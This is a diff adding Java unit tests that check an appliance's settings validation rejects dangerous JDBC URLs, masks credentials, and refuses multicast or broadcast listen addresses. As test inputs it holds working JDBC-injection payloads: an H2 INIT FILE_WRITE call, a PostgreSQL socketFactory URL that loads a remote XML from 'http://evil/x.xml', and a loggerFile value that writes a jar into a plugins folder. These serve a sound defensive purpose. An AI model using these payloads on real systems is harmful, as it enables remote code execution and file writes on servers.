@@ -66,4 +66,70 @@ public class KatarSettingsTest {
         assertEquals("64 by default", 64, KatarSettings.from(Map.of(), n -> null, Path.of("/tmp/d")).limits().maxConnectionsPerAddress());
         assertEquals(128, KatarSettings.from(Map.of(), n -> null, Path.of("/tmp/d")).limits().reserved());
     }
+
+    private static String refusal(String name, String value) {
+        return assertThrows(IllegalArgumentException.class, () -> KatarSettings.from(Map.of(name, value), n -> null, Path.of("/tmp/d")))
+                .getMessage();
+    }
+
+    /** Issue 23, item 3: katar:config "jdbc.url=jdbc:h2:mem:x;INIT=CALL FILE_WRITE(...)" wrote any file. */
+    @Test
+    public void onlyPostgresqlUrlsWithoutParametersThatRunCodeOrWriteFiles() {
+        assertEquals("katar setting jdbc.url: the embedded H2 database is the appliance's own and not a setting; leave jdbc.url empty for it,"
+                + " or give jdbc:postgresql://HOST:5432/DB", refusal("jdbc.url", "jdbc:h2:mem:x;INIT=CALL FILE_WRITE('x', '/tmp/p.jar')"));
+        assertEquals("katar setting jdbc.url: only PostgreSQL URLs are accepted (jdbc:postgresql://HOST:5432/DB)",
+                refusal("jdbc.url", "jdbc:derby:x;create=true"));
+        assertEquals("katar setting jdbc.url: parameter socketFactory is refused: it makes the driver load code",
+                refusal("jdbc.url", "jdbc:postgresql://db/k?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
+                        + "&socketFactoryArg=http://evil/x.xml"));
+        assertEquals("katar setting jdbc.url: parameter SSLFACTORY is refused: it makes the driver load code",
+                refusal("jdbc.url", "jdbc:postgresql://db/k?sslmode=require&SSLFACTORY=x.Y"));
+        assertEquals("katar setting jdbc.url: parameter loggerFile is refused: it makes the driver write files",
+                refusal("jdbc.url", "jdbc:postgresql://db/k?loggerFile=/opt/overlaygate/plugins.d/x.jar"));
+        assertEquals("URL-encoded names are decoded first", "katar setting jdbc.url: parameter socketFactory is refused: it makes the driver"
+                + " load code", refusal("jdbc.url", "jdbc:postgresql://db/k?socket%46actory=x"));
+        assertTrue(refusal("jdbc.url", "jdbc:postgresql://db/k?service=x").startsWith(
+                "katar setting jdbc.url: parameter 'service' is not one katar accepts ("));
+        KatarSettings ok = KatarSettings.from(Map.of("jdbc.url", "jdbc:postgresql://db1:5432,db2:5432/katar?sslmode=verify-full"
+                + "&connectTimeout=5&targetServerType=primary"), n -> null, null);
+        assertEquals("jdbc:postgresql://db1:5432,db2:5432/katar?sslmode=verify-full&connectTimeout=5&targetServerType=primary",
+                ok.value("jdbc.url"));
+    }
+
+    /** Issue 23, item 5: a secret in the URL was shown in the log, katar:config, scr:info and the console. */
+    @Test
+    public void urlsThatCarryCredentialsAreRefusedWithoutShowingThem() {
+        for (String url : new String[] {"jdbc:postgresql://db/k?user=katar&password=hunter2", "jdbc:postgresql://db/k?sslpassword=hunter2",
+                "jdbc:postgresql://katar:hunter2@db/k", "jdbc:postgresql://db/k?PassWord=hunter2"}) {
+            String message = refusal("jdbc.url", url);
+            assertTrue(message, message.startsWith("katar setting jdbc.url: "));
+            assertTrue(message, message.contains("jdbc.password"));
+            assertTrue("never the secret: " + message, !message.contains("hunter2"));
+            assertTrue("never the URL: " + message, !message.contains("db/k"));
+        }
+        // Wherever a URL is printed, what could be a secret is masked.
+        assertEquals("jdbc:postgresql://***@db/k?user=u&password=***&sslpassword=***",
+                org.overlaygate.katar.server.store.JdbcUrls.masked("jdbc:postgresql://a:b@db/k?user=u&password=x&sslpassword=y"));
+    }
+
+    /** Issue 23, item 8: katar:config listen.address=224.0.0.1 was accepted. */
+    @Test
+    public void listenAddressesNoServerCanListenOnAreRefused() {
+        assertEquals("katar setting listen.address: 224.0.0.1 is a multicast address, not an address of this host to listen on",
+                refusal("listen.address", "224.0.0.1"));
+        assertEquals("katar setting listen.address: 255.255.255.255 is the broadcast address, not an address of this host to listen on",
+                refusal("listen.address", "255.255.255.255"));
+        assertEquals("katar setting listen.address: 240.0.0.1 is a reserved (class E) address, not an address of this host to listen on",
+                refusal("listen.address", "240.0.0.1"));
+        assertTrue(refusal("listen.address", "ff02::1").contains("is a multicast address"));
+        assertEquals("0.0.0.0", KatarSettings.from(Map.of("listen.address", "0.0.0.0"), n -> null, Path.of("/tmp/d")).value("listen.address"));
+    }
+
+    @Test
+    public void aHostsLogIsItsOwnUnlessTheOperatorTrustsNamedAddresses() {
+        assertEquals("false", KatarSettings.from(Map.of(), n -> null, Path.of("/tmp/d")).value("log.trust.named.address"));
+        assertEquals("true", KatarSettings.from(Map.of("log.trust.named.address", "true"), n -> null, Path.of("/tmp/d"))
+                .value("log.trust.named.address"));
+        assertEquals("katar setting log.trust.named.address = 'yes' is not true or false", refusal("log.trust.named.address", "yes"));
+    }
 }
